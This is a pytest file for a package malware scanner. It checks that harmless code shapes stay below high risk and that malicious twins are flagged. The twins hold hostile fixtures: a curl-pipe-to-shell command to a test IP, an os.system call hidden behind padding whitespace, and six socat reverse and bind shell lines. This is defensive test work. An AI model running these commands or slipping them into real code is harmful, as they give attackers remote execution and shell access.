"""Round 12's false-alarm classes (helper A), each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder


def _unread(result) -> dict[str, str]:
    return {f.path: f.severity for f in result.findings if f.capability == "scan.unread"}


# ---------------------------------------------------------------- Python 2's <> and True = ...
# BeautifulSoup 3 stops Python 3 on purpose with ``"very old release" <> "use bs4"``; wsgiref
# 0.1.2 keeps 2.2 code running with ``True = not None``. Python 3 rejects both on every
# version (``<>`` only reads under ``from __future__ import barry_as_FLUFL``): old code, unread
# at medium. A ``<>`` only inside a string, or a file that turns ``<>`` on, stays unread high.
BS3 = (
    "import re\n\n\ndef _warn():\n"
    '    "You\'re trying to run a very old release under Python 3."<>"Use version 4."\n\n\n'
    "class Tag:\n    pass\n"
)
WSGIREF = (
    "try:\n    True\nexcept NameError:\n    True = not None\n    False = not True\n\n\n"
    "def guess(path_parts):\n    return [p for p in path_parts if p and p<>'.']\n"
)


def test_python2_diamond_and_true_assignment_are_old_code(tmp_path):
    result = scan(
        {"pkg/__init__.py": "X = 1\n", "pkg/soup.py": BS3, "pkg/util.py": WSGIREF}, tmp_path
    )
    assert _unread(result) == {"pkg/soup.py": "medium", "pkg/util.py": "medium"}
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_a_diamond_only_in_a_string_is_a_typo_and_under_barry_as_flufl_stays_unread(tmp_path):
    in_string = "import os\nSEP = '<>'\nos.system('id') +\n"
    barry = "from __future__ import barry_as_FLUFL\nimport os\nif 1 <> 2:\n    os.system('id')\n"
    result = scan(
        {"pkg/__init__.py": "X = 1\n", "pkg/a.py": in_string, "pkg/b.py": barry}, tmp_path
    )
    assert _unread(result) == {"pkg/a.py": "medium", "pkg/b.py": "high"}  # a.py: blanked
    assert_high_with("unparsed", result, {"disguise.unread"})


def test_a_payload_in_a_python2_module_is_still_found_by_the_pattern_rules(tmp_path):
    module = WSGIREF + "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
    result = scan({"pkg/__init__.py": "from pkg import util\n", "pkg/util.py": module}, tmp_path)
    assert _unread(result) == {"pkg/util.py": "medium"}
    assert result.risk.level in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- str.format project templates
# connector-py's scaffold ships ``from {name}.integration import integration`` and ``class
# {pascal}Settings(BaseModel):``, filled in by ``content.format(name=...)``. As they are, a set
# display stands where a module or class name must be: no Python reads them. A ``{x}`` on a
# line broken elsewhere is no such field, and a payload in a template is still found.
SCAFFOLD = {
    "pkg/__init__.py": "X = 1\n",
    "pkg/scaffold/templates/app_name/main.py": (
        "from connector.cli import run\n\nfrom {name}.integration import integration\n\n\n"
        "def main():\n    run(integration)\n"
    ),
    "pkg/scaffold/templates/app_name/settings.py": (
        "from pydantic import BaseModel\n\n\nclass {pascal}Settings(BaseModel):\n    key: str\n"
    ),
    "pkg/scaffold/templates/app_name/client.py": "def get_{name}(x):\n    return x\n",
}


def test_str_format_fields_standing_for_names_are_a_template(tmp_path):
    result = scan(SCAFFOLD, tmp_path)
    templates = {p: "medium" for p in SCAFFOLD if p != "pkg/__init__.py"}
    assert _unread(result) == templates
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_a_field_away_from_the_error_is_no_template_and_a_payload_in_one_is_found(tmp_path):
    broken = "import os\nNAMES = {name}\nos.system('id') +\n"
    result = scan({"pkg/__init__.py": "X = 1\n", "pkg/tool.py": broken}, tmp_path)
    note = [h.explanation for h in result.findings if h.capability == "scan.unread"]
    assert _unread(result) == {"pkg/tool.py": "medium"}  # a typo: blanked, the rest read
    assert "blanked (line 3: " in note[0] and "template" not in note[0]
    payload = SCAFFOLD["pkg/scaffold/templates/app_name/main.py"] + (
        "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
    )
    files = {"pkg/__init__.py": "X = 1\n", "pkg/scaffold/templates/app_name/main.py": payload}
    result = scan(files, subfolder(tmp_path, "b"))
    assert result.risk.level in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- tables pushed right in docstrings
# SWIG writes libsbml's C++ documentation into the docstrings of its 8 MB module, tables
# padded to 400 columns included: "| sqrt | x | ...<180 spaces>... | sqrt(x) >= 0 |" read as
# code pushed off-screen. A docstring is never run; code pushed right after a statement, or
# inside a string that is run, still is.
PAD = " " * 180


def _documented(tail: str) -> str:
    return (
        "class ASTNode:\n    def getType(self):\n        r'''\n        The functions:\n"
        f"          | sqrt | x | Square root.{PAD}| x > 0 | sqrt(x) >= 0 |\n"
        f"          | sin  | x | Sine of x.{PAD}|       |              |\n        '''\n"
        f"        return _libsbml.ASTNode_getType(self)\n{tail}"
    )


def test_a_table_pushed_right_inside_a_docstring_is_prose(tmp_path):
    files = {"pkg/__init__.py": "X = 1\n", "pkg/swig.py": _documented("")}
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_code_pushed_right_after_a_statement_or_in_a_run_string_is_still_hidden(tmp_path):
    tail = f"\n\nVERSION = '5.21'{PAD};__import__('os').system('id')\n"
    files = {"pkg/__init__.py": "X = 1\n", "pkg/swig.py": _documented(tail)}
    assert_high_with("pushed", scan(files, tmp_path), {"disguise.obfuscation"})
    tail = f"\n\nexec('''VERSION = 1{PAD};import os''')\n"
    files = {"pkg/__init__.py": "X = 1\n", "pkg/swig.py": _documented(tail)}
    assert_high_with(
        "pushed in exec", scan(files, subfolder(tmp_path, "b")), {"disguise.obfuscation"}
    )


# ---------------------------------------------------------------- socat serving a program
# An evaluation suite's CTF challenge images serve their puzzle on a port:
# ``socat tcp-listen:1337,fork exec:/challenge/nettools`` and, in a Dockerfile,
# ``exec:"python3 -u chall.py"``. A socket wired to a named program is a network service;
# wired to a shell (or to an interpreter given inline code, or to a program held in a
# variable) it is a reverse or bind shell.
def test_socat_serving_a_challenge_program_is_no_reverse_shell(tmp_path):
    files = {
        "pkg/__init__.py": "X = 1\n",
        "pkg/challenges/tools/images/victim/run.sh": (
            "#!/bin/sh\n\nsocat tcp-listen:1337,fork,reuseaddr,su=nobody "
            "exec:/challenge/nettools 2>/dev/null\n"
        ),
        "pkg/challenges/jail/images/victim/Dockerfile": (
            "FROM python:3.11\nCOPY src /challenge\nEXPOSE 1337\n"
            'CMD socat -dd tcp-listen:1337,fork,reuseaddr,su=nobody exec:"python3 -u chall.py"\n'
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_socat_wired_to_a_shell_is_still_a_reverse_shell(tmp_path):
    for i, line in enumerate(
        (
            "socat TCP:203.0.113.5:4444 EXEC:/bin/sh",
            "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4242",
            "socat tcp-listen:1337,fork exec:sh,pty,stderr",
            "socat TCP4:203.0.113.5:80 SYSTEM:'/usr/bin/env bash -i'",
            "socat tcp:203.0.113.5:80 exec:\"python3 -c 'import pty; pty.spawn(1)'\"",
            "socat tcp:203.0.113.5:80 exec:$PROGRAM",
        )
    ):
        files = {"pkg/__init__.py": "X = 1\n", "pkg/run.sh": f"#!/bin/sh\n{line}\n"}
        assert_high_with(line, scan(files, subfolder(tmp_path, str(i))), {"chain.reverse_shell"})
